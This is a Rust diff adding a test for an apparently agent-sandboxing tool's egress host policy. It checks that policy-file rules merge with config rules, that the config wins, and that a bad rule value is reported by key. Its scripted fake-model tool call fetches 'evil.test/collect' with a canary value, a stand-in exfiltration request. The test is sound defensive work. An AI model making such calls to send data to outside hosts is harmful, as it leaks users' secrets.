@@ -182,3 +182,45 @@ async fn an_invalid_rule_is_a_config_error_naming_the_key() {
     assert!(stderr.contains("egress.hosts.\"pastebin.com\""), "{stderr}");
     assert_eq!(llm.request_count(), 0);
 }
+
+#[tokio::test]
+async fn the_policy_file_extends_the_host_rules_and_the_config_wins() {
+    let web = FakeWeb::start().await;
+    let home = tempfile::tempdir().unwrap();
+    let policy = home.path().join("policy.toml");
+    std::fs::write(
+        &policy,
+        "[egress.hosts]\n\"evil.test\" = \"allow\"\n\"other.test\" = \"allow\"\n",
+    )
+    .unwrap();
+    write_config(
+        home.path(),
+        &format!(
+            "policy = {:?}\n{}\n[egress.hosts]\n\"other.test\" = \"deny\"\n",
+            policy.display().to_string(),
+            web.resolve_toml()
+        ),
+    );
+    let llm = FakeLlm::anthropic(vec![
+        fetch(&format!("http://evil.test/collect?d={CANARY}")),
+        fetch("http://other.test/x"),
+        Turn::text("done"),
+    ])
+    .await;
+    let out = warden_run(home.path(), &llm, "go").await;
+    assert_eq!(out.status.code(), Some(0), "{out:?}");
+    let results = llm.requests()[2].tool_results();
+    assert!(!results[0].is_error, "{}", results[0].content);
+    assert!(results[1].is_error, "{}", results[1].content);
+    assert_eq!(web.requests(), [format!("evil.test/collect?d={CANARY}")]);
+    let rows = egress_audit(home.path());
+    assert_eq!(rows[0].0, "allow");
+    assert_eq!(rows[1].0, "deny");
+
+    // A bad rule in the policy file stops warden with its key.
+    std::fs::write(&policy, "[egress.hosts]\n\"evil.test\" = \"sometimes\"\n").unwrap();
+    let out = warden_run(home.path(), &llm, "go").await;
+    assert_ne!(out.status.code(), Some(0));
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(stderr.contains("egress.hosts.\"evil.test\""), "{stderr}");
+}
